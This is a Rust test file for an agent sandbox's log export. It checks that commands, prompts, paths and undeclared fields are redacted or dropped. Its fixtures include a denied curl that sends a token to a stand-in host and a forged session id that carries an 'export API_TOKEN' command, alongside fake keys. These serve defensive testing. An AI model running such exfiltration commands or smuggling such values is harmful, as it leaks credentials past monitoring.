//! Tests of the export's field table: what ships as a value, what is redacted, what is dropped.

use super::*;
use serde_json::json;

fn record(source: &str, kind: &str, body: Value) -> Vec<u8> {
    let mut record = json!({ "seq": 4, "prev": "ab", "ts_ms": 1, "source": source, "kind": kind });
    record
        .as_object_mut()
        .unwrap()
        .extend(body.as_object().unwrap().clone());
    record.to_string().into_bytes()
}

fn shipped_value(line: &[u8], level: Redaction) -> Value {
    serde_json::from_str(&shipped(line, level, &[]).expect("something withheld")).unwrap()
}

#[test]
fn a_decision_ships_its_structure_and_nothing_the_agent_typed() {
    let decision = record(
        "sandbox",
        "decision",
        json!({ "peer": { "pid": 7, "uid": 1000, "gid": 1000 }, "reported": {
            "decision": "deny", "tool": "Bash", "rule_id": "net", "event": "PreToolUse",
            "input": "curl https://x.example/?token=hunter22",
            "reason": "StepProof denied Bash: 'curl https://x.example/?token=hunter22'",
            "file_path": "/work/hunter22.txt",
            "session_id": "s1", "tool_use_id": "toolu_1" } }),
    );
    for level in [Redaction::Commands, Redaction::AllText] {
        let text = shipped(&decision, level, &[]).unwrap();
        assert!(!text.contains("hunter22"), "{text}");
        let v: Value = serde_json::from_str(&text).unwrap();
        assert_eq!(v["reported"]["rule_id"], "net");
        assert_eq!(v["reported"]["decision"], "deny");
        assert_eq!(v["reported"]["tool_use_id"], "toolu_1");
        assert_eq!(v["peer"]["uid"], 1000);
        // Declared as withheld: the key ships, the value does not.
        for key in ["input", "reason", "file_path"] {
            assert_eq!(v["reported"][key], REDACTED, "{v}");
        }
        assert!(v.get(WITHHELD).is_none(), "{v}");
        assert_eq!(
            (v["seq"].clone(), v["prev"].clone()),
            (json!(4), json!("ab"))
        );
    }
    // `none` ships the line as it is.
    assert_eq!(shipped(&decision, Redaction::None, &[]), None);
}

#[test]
fn a_field_nobody_declared_is_not_shipped_nor_its_name() {
    // A new field of the supervisor's, at the top and nested, and one a report made up.
    let network = record(
        "supervisor",
        "network",
        json!({ "host": "api.anthropic.com", "port": 443, "allowed": true,
                "new_field_sk_live_1": "value-sk_live_2", "resolved": "1.2.3.4:443" }),
    );
    let v = shipped_value(&network, Redaction::Commands);
    let text = v.to_string();
    assert!(!text.contains("sk_live"), "{text}");
    assert_eq!(v["host"], "api.anthropic.com");
    assert_eq!(v[WITHHELD], 1);
    let nested = record(
        "sandbox",
        "turn",
        json!({ "reported": { "event": "UserPromptSubmit", "prompt": "the secret plan",
                              "extra": { "deeper": "more" } } }),
    );
    let v = shipped_value(&nested, Redaction::Commands);
    assert_eq!(v["reported"], json!({ "event": "UserPromptSubmit" }));
    assert_eq!(v[WITHHELD], 2);
    assert_eq!(
        undeclared(&nested),
        [
            ("turn".to_string(), "reported.extra".to_string()),
            ("turn".to_string(), "reported.prompt".to_string())
        ]
    );
    // A record whose every field is declared ships as written.
    let plain = record(
        "supervisor",
        "network",
        json!({ "host": "api.anthropic.com", "port": 443, "allowed": true }),
    );
    assert_eq!(shipped(&plain, Redaction::Commands, &[]), None);
    assert!(undeclared(&plain).is_empty());
}

#[test]
fn structure_fields_ship_only_what_looks_like_structure() {
    // The agent can run the hook with any input: an id holding a sentence is replaced.
    let forged = record(
        "sandbox",
        "decision",
        json!({ "reported": { "session_id": "export API_TOKEN=abc123", "tool": "Bash",
                              "decision": "x".repeat(200) } }),
    );
    let v = shipped_value(&forged, Redaction::Commands);
    assert_eq!(v["reported"]["session_id"], REDACTED);
    assert_eq!(v["reported"]["decision"], REDACTED);
    assert_eq!(v["reported"]["tool"], "Bash");
    assert!(!v.to_string().contains("abc123"));
}

#[test]
fn all_text_keeps_the_structure_commands_keeps_the_context_too() {
    let start = record(
        "supervisor",
        "run-start",
        json!({ "argv": ["claude", "-p", "fix it"], "workspace": "/home/me/project",
                "profile": "default", "run_id": "r1" }),
    );
    let commands = shipped_value(&start, Redaction::Commands);
    assert_eq!(commands["workspace"], "/home/me/project");
    assert_eq!(commands["argv"], REDACTED);
    let all_text = shipped_value(&start, Redaction::AllText);
    assert_eq!(all_text["workspace"], REDACTED);
    assert_eq!(all_text["profile"], "default");
    assert_eq!(all_text["kind"], "run-start");
}

#[test]
fn context_that_quotes_a_withheld_value_is_withheld_too() {
    let end = record(
        "supervisor",
        "run-end",
        json!({ "outcome": { "status": "exited", "exit_code": 0,
                             "message": "could not read /work/AKIASECRETKEY",
                             "findings": [{ "change": "created", "path": "/work/AKIASECRETKEY" }] } }),
    );
    let v = shipped_value(&end, Redaction::Commands);
    assert_eq!(v["outcome"]["message"], REDACTED);
    assert_eq!(v["outcome"]["findings"][0]["change"], "created");
    assert!(!v.to_string().contains("AKIASECRET"), "{v}");
}

#[test]
fn redact_keys_withholds_more_in_every_mode() {
    let network = record(
        "supervisor",
        "network",
        json!({ "host": "internal.example", "port": 443 }),
    );
    for level in [Redaction::None, Redaction::Commands, Redaction::AllText] {
        let text = shipped(&network, level, &["host".into()]).unwrap();
        assert!(!text.contains("internal.example"), "{level:?}: {text}");
    }
}

#[test]
fn the_table_is_well_formed() {
    let mut seen = HashSet::new();
    for &(kind, path, _) in FIELDS {
        assert!(seen.insert((kind, path)), "declared twice: {kind} {path}");
        assert!(
            !path.is_empty()
                && path
                    .split('.')
                    .all(|seg| !seg.is_empty() && !seg.contains(' ')),
            "{kind}: {path:?}"
        );
        // A leaf is never also a container of the same kind.
        assert!(
            !table().containers.contains(&(kind, path.to_string())),
            "{kind}: {path} is both a field and holds fields"
        );
    }
    assert!(!ENVELOPE.iter().any(|k| seen.contains(&("*", *k))));
}
